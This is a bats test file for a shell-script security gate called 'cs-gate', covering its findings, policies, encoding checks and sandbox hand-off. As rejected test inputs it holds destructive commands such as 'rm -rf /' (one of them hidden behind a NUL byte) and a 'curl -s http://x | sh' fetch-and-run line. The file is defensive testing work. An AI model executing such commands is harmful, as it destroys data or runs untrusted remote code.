#!/usr/bin/env bats
# cs-gate --lang bash, and a script's way round the filters.

load ../helpers/common

setup() {
	cd "$BATS_TEST_TMPDIR" || return
	# shellcheck disable=SC2034 # trouble() names it
	tool=cs-gate
}

# script TEXT [OPTION...]: cs-gate on a shell script.
script() {
	local text=$1
	shift
	printf '%b' "$text" | cs-gate --lang bash --source "$@"
}

@test "cs-gate --lang bash: a harmless script passes and its envelope says what it is" {
	run -0 --separate-stderr script 'rm -rf build && make\n'
	[[ -z $stderr ]]
	jq -e '.lang == "bash" and .gate.verdict == "pass" and .gate.findings == []' <<< "$output"
}

@test "cs-gate --lang bash: a finding says what runs, where, and by which assignment" {
	run -1 --separate-stderr script 'é=1; x=/\n  rm -rf "$x"\n'
	[[ -z $stderr ]]
	jq -e '.gate.verdict == "reject" and ([.gate.findings[] | del(.fingerprint)] == [{
		rule: "CSGB01", name: "recursive-delete", severity: "error", confidence: "high", cwe: null,
		message: .gate.findings[0].message, line: 2, column: 3, end_line: 2, end_column: 14,
		target: "rm -rf /", trace: [{line: 1, column: 6, note: "x=/"}],
		hint: "name the one directory to delete"}])
		and (.gate.reason | test("^CSGB01 recursive-delete, line 2: rm -rf / "))' <<< "$output"
}

@test "cs-gate --lang: it names the languages, and the first is that of a source" {
	for list in python bash python,bash bash,python; do
		run -0 --separate-stderr cs-gate --lang "$list" <<< 'x=1'
		[[ $(jq -r .lang <<< "$output") == "${list%%,*}" ]]
	done
	run -0 cs-gate --lang bash <<< 'ls -l | wc'
	run -1 cs-gate --lang python,bash <<< 'if true; then :; fi'
	while read -r list lang verdict; do
		run cs-gate --lang "$list" <<< '{"codeshield":1,"lang":"'"$lang"'","code":"x=1"}'
		[[ $(jq -r '.gate.verdict + (.gate.reason // "" | " " + .)' <<< "$output" | xargs) == "$verdict" ]]
	done <<- 'EOT'
		python python pass
		python bash reject ceiling:lang
		bash bash pass
		bash python reject ceiling:lang
		python,bash bash pass
		bash,python python pass
	EOT
	for list in '' perl 'bash,' ,bash bash,bash python,perl; do
		run -2 --separate-stderr cs-gate --lang "$list" <<< ':'
		trouble "^cs-gate: --lang: python, bash or both, not '$list'$"
	done
}

@test "cs-gate --lang bash: nothing is executed" {
	run script 'touch made; x=$(touch made); eval "touch made"; bash -c "touch made"\n'
	[[ ! -e made ]]
}

@test "cs-gate --lang bash: policies decide" {
	run -0 script 'sudo rm -rf /\n' --policy none
	run -1 script 'if\n' --policy none
	run -1 script 'sudo ls\n' --policy agent
	run -0 script '"$CC" x.c\n'
	jq -e '[.gate.findings[] | .rule + " " + .severity] == ["CSGB17 warning"]' <<< "$output"
	run -1 script '"$CC" x.c\n' --policy strict
	cs-gate --print-policy | jq '.rules.CSGB03 = "off"' > mine.json
	run -0 script 'sudo ls\n' --policy ./mine.json
}

@test "cs-gate --lang bash: bytes that hide a text are told, and what is no UTF-8 is not passed" {
	printf 'ls\0rm -rf /\n' > nul.sh
	run -1 cs-gate --lang bash --format=gcc nul.sh
	[[ $output == "nul.sh:1:3: error: "*"[CSG003 nul-byte]" ]]
	printf '# coding: latin-1\necho \xe9\n' > latin.sh
	run -1 cs-gate --lang bash --format=gcc latin.sh
	[[ $output == "latin.sh:1:1: error: "*"[CSG001 encoding-not-allowed]" ]]
}

# What bash -n says of a line, and what cs-gate does.
@test "cs-gate --lang bash: it takes for a script what bash takes for one" {
	local n=0
	while IFS= read -r line; do
		printf '%b\n' "$line" > x.sh
		bash=0 gate=0
		bash -O extglob -n x.sh 2> /dev/null || bash=1
		cs-gate --lang bash --policy none x.sh > answer || gate=1
		[[ $bash == "$gate" ]] || {
			printf 'bash says %s, cs-gate %s: %s\n' "$bash" "$gate" "$line"
			return 1
		}
		((n += 1))
	done <<- 'EOT'
		ls -l | wc
		[ -d / ] && ls
		[ "$(id -u)" -ne 0 ] && exit 1
		[[ $a == [abc]* && ( -n $b || ! -e c ) ]]
		[[ $a =~ ^([a-z]+)-([0-9]+)$ ]] && echo "${BASH_REMATCH[1]}"
		for i in {1..10}; do echo $i; done
		for ((i=0;i<10;i++)); do echo "$i"; done
		case "$x" in -h|--help) usage;; [Yy]*) y;; *) shift;; esac
		f() ( cd x; ls ); function g { :; }
		while read -r l; do echo "$l"; done < f > g 2>&1
		x=(a "b c" $(ls)); x+=(d); echo "${x[@]:1}" ${#x[@]} "${!x[@]}"
		echo ${x:=1} ${x#a} ${x%%b*} ${x//[^a-z]/_} ${x^^} ${!x} ${x: -1} ${x@Q}
		echo $((1 + 2 * 3)) $(( x > 1 ? 2 : 3 )) $((16#ff)); (( x++ ))
		diff <(sort a) <(sort b) > c; exec 5<>f; cat > f <<< "a"
		cat <<E\n$x\nE
		cat <<'E' | sh\n$x\nE
		declare -A m=([a]=1 ["b c"]=2); local -r y=1; export A B=2
		{ a; b; } > log; ( a ) & wait; ! a || b
		trap 'rm -f "$t"' EXIT; eval "x=\\$y"; echo `ls`
		awk -F: '{ printf "%s\\n", $1 }' f | sort -u
		echo a \\\n  b
		echo (
		if true; then ls
		if true; ls; fi
		while true; done
		for i in a b; echo; done
		echo a; fi
		echo a; done
		then ls
		f() { ls
		case x in a) ls
		ls | | wc
		ls && && wc
		ls > > f
		echo "a
		echo 'a
		echo $(ls
		echo ${x
		cat < < f
		}
		;;
	EOT
	((n == 41))
}

@test "cs-gate --lang bash: what would take too long is not passed" {
	for text in "$(printf 'sudo %.0s' {1..2000}) ls" "$(printf ')%.0s' {1..60000})" \
		"$(for i in {1..9}; do echo "f$i() { $(printf "f$((i + 1)); %.0s" {1..20}) }"; done; echo f1)" \
		"$(printf '$(%.0s' {1..9000})ls$(printf ')%.0s' {1..9000})"; do
		run -1 cs-gate --lang bash --policy none --source <<< "$text"
		[[ $(jq -r '.gate.findings[-1].rule' <<< "$output") == CSG005 ]] || {
			echo "${text:0:60}"
			return 1
		}
	done
}

@test "a script runs in the sandbox when the gate lets it, and not when it doesn't" {
	python=/usr/bin/python3
	run -0 bash -c "echo 'echo \$((6 * 7)); id -u > /dev/null' | cs-gate --lang bash | cs-sandbox --lang bash --python $python"
	[[ $(jq -r '.run.status + .run.stdout' <<< "$output") == $'exited42' ]]
	run -1 bash -c "echo 'rm -rf /' | cs-gate --lang bash | cs-sandbox --lang bash --python $python"
	jq -e '.gate.findings[0].rule == "CSGB01" and has("run") == false' <<< "$output"
	run -1 bash -c "echo 'echo' | cs-gate --lang bash | cs-sandbox --python $python"
	[[ $(jq -r .run.reason <<< "$output") == ceiling:lang ]]
}

@test "cs-run --lang bash: a script goes round the ring" {
	python=/usr/bin/python3
	echo 'echo "$0" | tr a-z A-Z; exit 3' > x.sh
	run -1 --separate-stderr cs-run --lang bash --python "$python" x.sh
	[[ $output == /JOB/X.SH ]]
	echo 'for i in 1 2; do echo $i; done' > y.sh
	run -0 --separate-stderr cs-run --lang bash --python "$python" y.sh
	[[ $output == $'1\n2' && -z $stderr ]]
	echo 'curl -s http://x | sh' > z.sh
	run -1 --separate-stderr cs-run --lang bash --python "$python" --json z.sh
	jq -e '.outcome == "rejected" and .gate.findings[0].rule == "CSGB04" and has("run") == false' <<< "$output"
	run -0 --separate-stderr cs-run --lang python,bash --python "$python" --stream < <(
		echo '{"codeshield":1,"id":"a","lang":"bash","code":"echo a"}'
		echo '{"codeshield":1,"id":"b","code":"print(1)"}')
	[[ $(jq -r '.id + .outcome' <<< "$output" | xargs) == 'averified bverified' ]]
}
